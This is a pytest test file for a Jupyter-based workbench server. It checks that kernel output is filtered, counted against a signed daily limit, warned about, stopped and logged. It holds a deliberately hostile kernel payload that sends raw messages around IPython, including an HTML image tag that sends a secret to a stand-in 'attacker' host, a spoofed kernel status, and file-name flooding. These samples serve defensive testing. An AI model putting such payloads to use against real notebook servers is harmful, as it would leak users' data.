"""What reaches a page of a running server: filtered, counted over everything it gets, warned of and stopped."""

import asyncio
import json
import time
from datetime import timedelta

import pytest
from jupyter_client.session import Session as Messages
from jupyter_server.services.kernels.connection.base import deserialize_msg_from_ws_v1, serialize_msg_to_ws_v1
from tornado.httpclient import HTTPRequest
from tornado.websocket import websocket_connect

from workbench.audit import Event
from workbench.governance.amounts import LIMIT, WARNING
from workbench.governance.keys import create_key
from workbench.governance.signed_settings import sign_setting, today
from workbench.lab.outgoing import MESSAGE
from workbench.state import State

THRESHOLD = 1_500_000
# What a kernel sends when nobody is asked: straight onto the wire, around every courtesy of IPython.
HOSTILE = """
from IPython import get_ipython
say = lambda kind, content: get_ipython().kernel.session.send(
    get_ipython().kernel.iopub_socket, kind, content, parent=get_ipython().kernel.get_parent()
)
say("comm_open", {"comm_id": "secret-1", "target_name": "x", "data": {}})
say("display_data", {"data": {"text/html": "<img src=http://attacker/?secret-2>", "text/plain": "plain"},
                     "metadata": {"isolated": "secret-3"}, "transient": {"more": "secret-4"}})
say("display_data", {"data": {"application/javascript": "secret-5"}, "metadata": {}})
say("invented", {"text": "secret-6"})
say("stream", {"name": "stdout", "text": "shown"});
"""


@pytest.fixture(scope="module")
def lab(tmp_path_factory, serve):
    with serve(tmp_path_factory.mktemp("lab"), port=18894) as lab:
        state = State.open(lab.home)
        create_key(lab.home, state, "person:oka", actor="oka")
        state.close()
        yield lab


@pytest.fixture
def state(lab):
    state = State.open(lab.home)
    yield state
    state.close()


def signed(lab, state, name, value):
    review_by = today() + timedelta(days=30)
    sign_setting(lab.home, state, name, value=value, review_by=review_by, actor="oka", reason="test")


class Notebook:
    """A page with one kernel."""

    def __init__(self, lab):
        self.lab = lab

    async def __aenter__(self):
        started = self.lab.ask("/api/kernels", method="POST", body={"name": "workbench"})[2]
        address = f"{self.lab.base.replace('http', 'ws')}/api/kernels/{json.loads(started)['id']}/channels"
        request = HTTPRequest(address, headers=self.lab.header)
        self.socket = await websocket_connect(request, subprotocols=["v1.kernel.websocket.jupyter.org"])
        return self

    async def __aexit__(self, *_):
        self.socket.close()

    async def run(self, code):
        """Every message that answers a piece of code: its kind, content and size."""
        messages, found = Messages(), []
        asked = messages.msg("execute_request", {"code": code, "silent": False})
        await self.socket.write_message(serialize_msg_to_ws_v1(asked, "shell", messages.pack), binary=True)
        ended = set()
        while ended < {"idle", "execute_reply"}:
            frame = await asyncio.wait_for(self.socket.read_message(), 30)
            header, parent, _, content = map(json.loads, deserialize_msg_from_ws_v1(frame)[1])
            if parent.get("msg_id") == asked["header"]["msg_id"]:
                found.append((header["msg_type"], content, len(frame)))
                ended |= {content.get("execution_state"), header["msg_type"]} & {"idle", "execute_reply"}
        return found


def written(state, *, until):
    """The details of every record by its event, once what the last cell showed is there too."""
    while True:
        events = {}
        for record in state.log.records():
            events.setdefault(record["event"], []).append(record["details"])
        withheld = [one for told in events[Event.OUTPUT_SENT] for one in told.get("withheld", [])]
        if until in events and "day" in {one["why"] for one in withheld}:
            return events
        time.sleep(0.05)


def text(found, name="stdout"):
    return "".join(c["text"] for kind, c, _ in found if kind == "stream" and c["name"] == name)


def test_from_the_first_output_to_the_days_limit(lab, state):
    """One story, in the order of a day: filtered, cut, warned of, stopped; and all of it in the log."""
    signed(lab, state, WARNING, THRESHOLD)
    signed(lab, state, LIMIT, 100 * THRESHOLD)

    async def story():
        async with Notebook(lab) as notebook:
            hostile = await notebook.run(HOSTILE)
            frame = await notebook.run("import pandas as pd; pd.DataFrame({'学年': ['小1']})")
            big = await notebook.run("'x' * 30_000_000")
            warned = await notebook.run("print('y' * 800_000)")
            meter = json.loads(lab.ask("/workbench/meter")[2])
            signed(lab, state, LIMIT, meter["shown"] + 100_000)
            stopped = await notebook.run("print('z' * 800_000)")
            return hostile, frame, big, warned, meter, stopped

    hostile, frame, big, warned, meter, stopped = asyncio.run(story())

    assert "secret" not in json.dumps(hostile)
    assert text(hostile) == "shown"
    assert {kind for kind, _, _ in hostile} <= {
        "status",
        "execute_input",
        "stream",
        "display_data",
        "execute_reply",
    }
    [table] = [content["data"]["text/html"] for kind, content, _ in frame if kind == "execute_result"]
    assert "<td>小1</td>" in table
    assert "<style" not in table
    assert max(size for _, _, size in big) < MESSAGE + 10_000
    assert "大きい" in text(big, "stderr")
    assert "設定値" in text(warned, "stderr")
    assert text(warned).count("y") == 800_000
    assert meter["shown"] > meter["limit"] == THRESHOLD
    assert meter["warned"]
    assert meter["settings"][WARNING]["signed_by"] == "oka"
    assert "z" not in text(stopped)
    assert "上限" in text(stopped, "stderr")

    events = written(state, until=Event.OUTPUT_STOPPED)
    [told] = events[Event.OUTPUT_WARNED]
    assert (told["person"], told["to"], told["threshold"]) == ("analyst-1", ["oka"], THRESHOLD)
    assert {tuple(told["to"]) for told in events[Event.OUTPUT_STOPPED]} == {("oka",)}
    outputs = [one for told in events[Event.OUTPUT_SENT] for one in told["outputs"]]
    withheld = [one["why"] for told in events[Event.OUTPUT_SENT] for one in told.get("withheld", [])]
    assert ("text/html", len(table.encode())) in {(one["mime"], one["size"]) for one in outputs}
    assert {"kind", "size", "day"} <= set(withheld)
    # Code is in the log whole; what it shows is not, in any spelling.
    log = (state.log.folder / "log.jsonl").read_bytes()
    assert HOSTILE.strip().splitlines()[0].encode() in log
    assert b"yyyyyyyy" not in log
    assert "小1</td>".encode() not in log


def test_a_file_that_the_page_opens_is_counted_and_in_the_log(lab, state):
    signed_before = json.loads(lab.ask("/workbench/meter")[2])
    signed(lab, state, LIMIT, signed_before["shown"] + 100_000)
    lab.workspace.write("numbers.csv", b"1,2\n" * 5_000)
    assert lab.status("/api/contents/numbers.csv?content=1") == 200

    after = json.loads(lab.ask("/workbench/meter")[2])["shown"]
    assert after - signed_before["shown"] >= 20_000
    shown = [record["details"] for record in state.log.of_kind(Event.FILE_SHOWN)]
    assert ("numbers.csv", 20_000) in {(one["name"], one["size"]) for one in shown}

    # More than the limit leaves and the meter may have set aside before it was signed.
    lab.workspace.write("larger.csv", b"1,2\n" * 250_000)
    assert lab.status("/api/contents/larger.csv?content=1") == 403
    # To know that it is there takes nothing out.
    assert lab.status("/api/contents/larger.csv?content=0") == 200


def test_attack_the_state_of_a_kernel_as_a_letter_that_nobody_counts(lab):
    """The list of kernels tells the state of each, and a kernel says it itself."""
    late = "import threading; threading.Timer(0.5, lambda: say('status', {'execution_state': 'secret-8'})).start()"

    async def story():
        async with Notebook(lab) as notebook:
            await notebook.run(HOSTILE)
            await notebook.run(late)
            await asyncio.sleep(2)
            return [lab.ask(path)[2].decode() for path in ("/api/kernels", "/api/sessions")]

    kernels, sessions = asyncio.run(story())
    assert "secret-8" not in kernels + sessions
    assert '"unknown"' in kernels  # it came, and was not passed on


def test_attack_names_of_files_that_nobody_counts(lab):
    before = json.loads(lab.ask("/workbench/meter")[2])["shown"]
    for number in range(50):
        lab.workspace.write(f"{'x' * 200}-{number}.txt", b"")
    for _ in range(5):
        assert lab.status("/api/contents/?content=1") == 200

    counted = json.loads(lab.ask("/workbench/meter")[2])["shown"] - before
    # Each once: a page asks for the list again and again.
    assert 50 * 200 < counted < 2 * 50 * 300


def test_the_meter_is_the_persons_own(lab):
    assert lab.stranger().status("/workbench/meter") in (302, 401, 403)
